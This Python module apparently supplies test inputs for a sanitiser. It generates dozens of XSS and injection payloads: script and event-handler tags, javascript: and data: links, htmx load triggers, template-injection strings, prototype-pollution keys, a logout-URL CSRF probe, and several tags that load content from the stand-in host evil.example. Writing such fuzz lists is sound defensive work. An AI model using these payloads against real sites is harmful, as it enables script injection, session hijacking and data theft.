"""Texts that would run, load or send if any page took them for more than text; each is short enough for a name."""

from itertools import product

RAN = "window.ran=1"

_ELEMENTS = (
    f"<script>{RAN}</script>",
    f"<ScRiPt >{RAN}</ScRiPt >",
    "<script src=//evil.example/ran.js></script>",
    f"<img src=x onerror={RAN}>",
    f"<img src=x oNeRrOr={RAN}//",
    f"<svg onload={RAN}>",
    f"<svg/onload={RAN}>",
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s>",
    f"<math><mtext><script>{RAN}</script></mtext></math>",
    f"<math href=javascript:{RAN}>x</math>",
    f"<body onload={RAN}>",
    "<iframe srcdoc='<script>parent.ran=1</script>'>",
    "<iframe src=javascript:parent.ran=1>",
    "<iframe src=//evil.example/ran>",
    "<object data=//evil.example/ran></object>",
    "<embed src=//evil.example/ran>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/ran'>",
    "<link rel=stylesheet href=//evil.example/ran.css>",
    "<style>@import '//evil.example/ran.css';</style>",
    "<style>*{background:url(//evil.example/ran)}</style>",
    f"<details open ontoggle={RAN}>x</details>",
    f"<input autofocus onfocus={RAN}>",
    f"<video><source onerror={RAN}></video>",
    f"<marquee onstart={RAN}>x</marquee>",
    "<form action=//evil.example/ran><button>x</button></form>",
    "<button form=x formaction=//evil.example/ran>x</button>",
    "<a hx-get=/ran/ hx-trigger=load>x</a>",
    "<div hx-get=/ran/ hx-trigger=load></div>",
    "<div data-hx-get=/ran/ data-hx-trigger=load></div>",
    f"<div hx-on:load={RAN} hx-on::load={RAN}></div>",
    "<div hx-ext=x hx-vals='js:{a:window.ran=1}' hx-get=/ran/ hx-trigger=load>",
    f"<template><script>{RAN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RAN}>'>",
    f"<textarea></textarea><script>{RAN}</script>",
    f"<title></title><script>{RAN}</script>",
    f"<!--><img src=x onerror={RAN}>-->",
    f"<![CDATA[<script>{RAN}</script>]]>",
    f"<p style=behavior:url(x);x:expression({RAN})>",
    f"<x onclick={RAN} autofocus tabindex=1 onfocus={RAN}>",
    "<form id=status><input name=csrfmiddlewaretoken>",
    "<img id=undo name=ran><a id=alert name=ran>",
    f"<script type=module>{RAN}</script>",
    f"\\u003cscript\\u003e{RAN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"＜script＞{RAN}＜/script＞",
)
_LINKS = (
    f"javascript:{RAN}",
    f"JaVaScRiPt:{RAN}",
    f"java\tscript:{RAN}",
    f"&#106;avascript:{RAN}",
    f"javascript&colon;{RAN}",
    f"\x01javascript:{RAN}",
    f"data:text/html,<script>{RAN}</script>",
    f"vbscript:{RAN}",
    "//evil.example/ran",
    "https://ours.invalid/accounts/logout/",
)
_AROUND_ELEMENTS = ("{}", '">{}', "'>{}", "`</code>{}", "$\\text{{{}}}$", "</textarea>{}")
_AROUND_LINKS = ("[x]({})", "![x]({})", "<{}>", "[x]: {}\n[x]", "$\\href{{{}}}{{x}}$")
_OTHERS = (
    "{{7*7}}{% debug %}",
    "${window.ran=1}",
    "__proto__",
    "constructor.constructor('window.ran=1')()",
    "'-window.ran=1-'",
    '";window.ran=1;//',
    "\\';window.ran=1;//",
    "</script><script>window.ran=1</script>",
    "<<script>window.ran=1//<</script>",
    "\u202e<script>window.ran=1</script>",
)

PAYLOADS = tuple(
    dict.fromkeys(
        [
            *(around.format(one) for around, one in product(_AROUND_ELEMENTS, _ELEMENTS)),
            *(around.format(one) for around, one in product(_AROUND_LINKS, _LINKS)),
            *_OTHERS,
        ]
    )
)
